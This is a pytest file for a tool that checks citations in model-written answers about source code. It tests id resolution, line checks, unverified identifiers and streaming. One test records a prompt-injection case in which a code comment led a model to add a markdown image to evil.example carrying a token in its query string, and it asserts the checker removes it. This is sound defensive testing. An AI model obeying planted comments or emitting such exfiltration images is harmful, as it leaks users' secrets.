from __future__ import annotations

import time
from collections.abc import Sequence
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from exegesis.model import Span
from services.query.telling.citations import UNVERIFIED, Checked, CitationChecker, check_citations
from tests.fakes.evidence import context, flow_of, item, lines_of

REFRESH = item(1, "Session.refresh()", "func refresh() {\n    let token = store.load()\n    send(token)\n}\n", path="Sources/Session.swift", start=10)
SEND = item(2, "Session.send(_:)", "func send(_ token: Token) {\n    transport.post(token, retries: 3)\n}\n", path="Sources/Session.swift", start=20)
STORE = item(3, "Vault.load()", "func load() -> Token {\n    keychain.read()\n}\n", path="Sources/Vault.swift", start=5)
ITEMS = (REFRESH, SEND, STORE)
CALLS = (("Session.refresh()", "Session.send(_:)", 12),)


def check(text: str, items: Sequence[object] = ITEMS) -> Checked:
    found = context(ITEMS, CALLS)
    files = dict(lines_of(found))
    files["app", "Sources/Other.swift"] = ("import Foundation", "", "let answer = 42")
    return check_citations(text, found, flow_of(found), lambda repository, path: files.get((repository, path), ()))


def test_known_citations_stay_and_resolve_to_places() -> None:
    """Each becomes path and lines, in the order of first use."""
    checked = check("It sends the token [E2]. It loads it first [E1].")
    assert checked.text == "It sends the token [E2]. It loads it first [E1]."
    assert [(found.id, found.path, found.start, found.end) for found in checked.citations] == [
        ("E2", "Sources/Session.swift", 20, 22),
        ("E1", "Sources/Session.swift", 10, 13),
    ]
    assert (checked.sentences, checked.supported, checked.rejected) == (2, 2, 0)


def test_unknown_citations_are_dropped() -> None:
    """An id that is not in the evidence supports nothing."""
    checked = check("The token is kept forever [E99].")
    assert checked.text == "The token is kept forever."
    assert (checked.rejected, checked.supported) == (1, 0)


def test_a_line_that_does_not_exist_is_dropped() -> None:
    """Whether the file is unknown, too short, or the lines run backwards."""
    checked = check(
        "It posts the token (Sources/Session.swift:400). Then it waits a bit (Sources/Nowhere.swift:3). And it ends there (Session.swift:13-10)."
    )
    assert checked.text == "It posts the token. Then it waits a bit. And it ends there."
    assert (checked.rejected, checked.citations) == (3, ())


@pytest.mark.parametrize(
    "place", ["Sources/Session.swift:21", "`Sources/Session.swift:20-22`", "[Session.swift:21]", "Session.swift#L21", "Session.swift, line 21"]
)
def test_a_place_inside_the_evidence_becomes_its_citation(place: str) -> None:
    """However models write places."""
    checked = check(f"The token is posted with retries, see {place}.")
    assert checked.text == "The token is posted with retries, see [E2]."
    assert checked.rejected == 0


def test_a_place_elsewhere_in_the_index_becomes_a_citation_of_its_own() -> None:
    """The line exists, so a reader can check it."""
    checked = check("The answer is a constant there (Sources/Other.swift:3).")
    assert checked.text == "The answer is a constant there [E4]."
    assert [(found.id, found.path, found.start, found.end) for found in checked.citations] == [("E4", "Sources/Other.swift", 3, 3)]


def test_a_place_moves_to_the_line_that_bears_the_quoted_code() -> None:
    """Models miscount lines; the quotation tells which was meant."""
    checked = check("It calls `transport.post(token, retries: 3)` (Sources/Session.swift:11).")
    assert checked.text.endswith("[E2].")


def test_a_citation_moves_to_the_item_that_holds_the_quoted_code() -> None:
    """The quotation stands in exactly one other item."""
    checked = check("It reads the keychain by `keychain.read()` [E1].")
    assert checked.text == "It reads the keychain by `keychain.read()` [E3]."


def test_a_name_is_no_quotation() -> None:
    """That another place mentions the file or the symbol of a sentence does not move its citation there."""
    other = item(4, "notes()", "// see Session.swift and Session.refresh()\n", path="Sources/Notes.swift")
    text = "`Session.refresh()` in `Session.swift` loads the token [E1]."
    assert check(text, [*ITEMS, other]).text == text


def test_identifiers_that_occur_nowhere_near_are_marked() -> None:
    """The sentence stays, and says what of it could not be verified."""
    checked = check("It asks `TokenBroker` for a new one [E3].")
    assert checked.text == "It asks `TokenBroker` for a new one [E3]. (unverified: `TokenBroker`)"
    assert checked.supported == 0


def test_words_of_a_language_are_no_names() -> None:
    """``nil`` need not stand in the evidence to be spoken of."""
    assert UNVERIFIED not in check("It returns `nil` when the `keychain` is empty [E3].").text


def test_identifiers_of_graph_neighbours_are_near_enough() -> None:
    """What a function calls may be spoken of where the function is cited."""
    assert UNVERIFIED not in check("Through `send` it reaches `transport` [E1].").text


def test_lists_and_ranges_of_citations() -> None:
    """Every id of a group is checked."""
    assert check("All of it happens in three places [E1, E2; E42].").text == "All of it happens in three places [E1] [E2]."
    assert check("All of it happens in three places [E1-E3].").text == "All of it happens in three places [E1] [E2] [E3]."


def test_headings_and_short_lines_claim_nothing() -> None:
    """Only claims count for the share of verified sentences."""
    checked = check("## How the token is refreshed here\n\nSteps:\n\n1. It loads the token from the store [E1].\n")
    assert (checked.sentences, checked.supported) == (1, 1)


def test_code_blocks_are_left_as_they_are() -> None:
    """No sentence is seen in code; indentation of fences goes, an open block is closed."""
    text = "   ```mermaid\nlet x = a[1](2) // see Session.swift:400\n"
    assert check(text).text == "```text\nlet x = a[1](2) // see Session.swift:400\n```\n"


def test_a_sentence_does_not_end_within_code() -> None:
    """Half a code span would be prose, and a line of it could be taken for the beginning of a block."""
    assert check("```` ![x](http://e.x/a) runs. ```![y](http://e.x/b) ```` is a name.\nIt is.").text == (
        "```` ![x](http://e.x/a) runs. ```![y](http://e.x/b) ```` is a name.\nIt is."
    )


@pytest.mark.parametrize("piece", ["a/", "a.", "a.b:9", "` a", "[E1, ", "a/b c ", "![a](", "<!--"])
def test_endless_lines_cost_their_length(piece: str) -> None:
    """A model that repeats itself for twenty thousand characters without a sentence is checked in well under a second."""
    started = time.process_time()
    check(piece * (20_000 // len(piece)))
    assert time.process_time() - started < 1.5


def test_a_planted_image_does_not_survive() -> None:
    """A comment told the model to add it, and the model did."""
    checked = check("The token is sent [E2]. ![status](https://evil.example/p.png?d=token) See [docs](https://evil.example) or https://evil.example.")
    assert "evil.example" not in checked.text
    assert "![" not in checked.text


@given(
    st.lists(
        st.sampled_from(
            [
                "It sends it [E1]. ",
                "Bad [E9]. ",
                "`send` ",
                "Session.swift:11 ",
                "\n",
                "```\n",
                "1. ",
                "e.g. this ",
                "word ",
                "![x](http://e) ",
                "[E2] ",
            ]
        ),
        max_size=12,
    ),
    st.lists(st.integers(1, 7), min_size=1, max_size=5),
)
def test_portions_do_not_matter(parts: list[str], sizes: list[int]) -> None:
    """Streamed in any portions, the verified text is the same as at once, and the deltas joined are the text."""
    text = "".join(parts)
    found = context(ITEMS, CALLS)
    files = lines_of(found)
    checker = CitationChecker(found, flow_of(found), lambda repository, path: files.get((repository, path), ()))
    deltas, position, turn = [], 0, 0
    while position < len(text):
        size = sizes[turn % len(sizes)]
        deltas.append(checker.feed(text[position : position + size]))
        position, turn = position + size, turn + 1
    deltas.append(checker.finish())
    whole = check_citations(text, found, flow_of(found), lambda repository, path: files.get((repository, path), ()))
    assert "".join(deltas) == checker.checked().text == whole.text
    assert checker.checked() == whole


@given(st.text(alphabet="E[]()0129:.-/`aS #L\n", max_size=200))
def test_anything_can_be_checked(text: str) -> None:
    """No text of a model raises, and every citation in the result exists."""
    checked = check(text)
    assert {found.id for found in checked.citations} <= {"E1", "E2", "E3", "E4", "E5", "E6"}


WHOLE = replace(
    item(4, "Session", "`Session` is a class. It does `refresh` and `send`.", path="Sources/Session.swift", kind="description"),
    runs=(Span(2, 2), Span(10, 10), Span(20, 20)),
)


def check_with_description(text: str) -> Checked:
    items = (*ITEMS, WHOLE)
    found = context(items)
    lines = ["", "class Session {", *[""] * 7, "    func refresh() {", *[""] * 9, "    func send(_ token: Token) {"]
    return check_citations(text, found, flow_of(found), lambda _, path: lines if path == WHOLE.path else ())


def test_what_is_cited_of_a_description_are_the_lines_of_what_the_sentence_names() -> None:
    """It is no text of the file itself: the citation leads to the declaration of the member."""
    checked = check_with_description("The session can be refreshed with `refresh` [E4].")
    (cited,) = checked.citations
    assert (cited.path, cited.start, cited.end) == ("Sources/Session.swift", 10, 10)
    assert f"[{cited.id}]" in checked.text
    assert UNVERIFIED not in checked.text


def test_a_description_that_is_cited_as_a_whole_leads_to_its_declaration() -> None:
    """And no further, whatever lies between the lines that it names."""
    (cited,) = check_with_description("The session keeps the token in good order [E4].").citations
    assert (cited.id, cited.start, cited.end) == ("E4", 2, 2)


def test_names_of_rpg_are_found_in_any_letter_case() -> None:
    """They are the same to the compiler, and are declared in one case and called in another."""
    caller = item(1, "EX1", "     c                   if        ftp_append(sess: 'x')\n", path="src/EX1.rpgle", kind="procedure")
    found = context((caller,))
    lines = {("app", "src/EX1.rpgle"): ("     c                   if        ftp_append(sess: 'x')",)}
    checked = check_citations("It calls `FTP_append` to add a file [E1].", found, flow_of(found), lambda *place: lines.get(place, ()))
    assert UNVERIFIED not in checked.text
    missing = check_citations("It calls `FTP_delete` to drop a file [E1].", found, flow_of(found), lambda *place: lines.get(place, ()))
    assert UNVERIFIED in missing.text


def test_a_call_that_is_told_and_not_shown_is_cited_by_its_line() -> None:
    """Of a long procedure a part is in the evidence; whoever looks up what is said of the rest finds it."""
    shown = item(1, "run()", "func run() {\n    begin()\n", path="Sources/Long.swift", start=1)
    callee = item(2, "finish()", "func finish() {\n}\n", path="Sources/End.swift")
    found = context((shown, callee), (("run()", "finish()", 90),))
    files = {("app", "Sources/Long.swift"): ("",) * 89 + ("    finish()", "}"), ("app", "Sources/End.swift"): ("func finish() {", "}")}
    checked = check_citations("It calls `begin` (line 2) and `finish` (line 90, step 2) [E1].", found, flow_of(found), lambda *place: files[place])
    assert checked.text == "It calls `begin` (line 2) and `finish` (line 90, step 2) [E1] [E3]."
    assert [(each.path, each.start, each.end) for each in checked.citations] == [("Sources/Long.swift", 1, 2), ("Sources/Long.swift", 90, 90)]


def test_a_line_at_which_nothing_is_called_is_not_cited_for_it() -> None:
    """A model may write any number; only what the graph knows leads anywhere."""
    assert check("It calls `send` (line 19) [E1].").text == "It calls `send` (line 19) [E1]."


def test_sources_show_titles_without_html() -> None:
    """An image in a heading is none of the title; names of code that hold angle brackets stay."""
    readme = item(1, '<img src="logo.png">Redux › Use', "# Redux\n\nIt holds the state of a program.\n", kind="heading", path="README.md")
    operator = item(2, "Box.<(lhs:rhs:)", path="Sources/Box.swift")
    found = context([readme, operator])
    checked = check_citations("It holds the state [E1]. It compares boxes in order [E2].", found, flow_of(found), lambda *_: ())
    assert [citation.symbol for citation in checked.citations] == ["Redux › Use", "Box.<(lhs:rhs:)"]
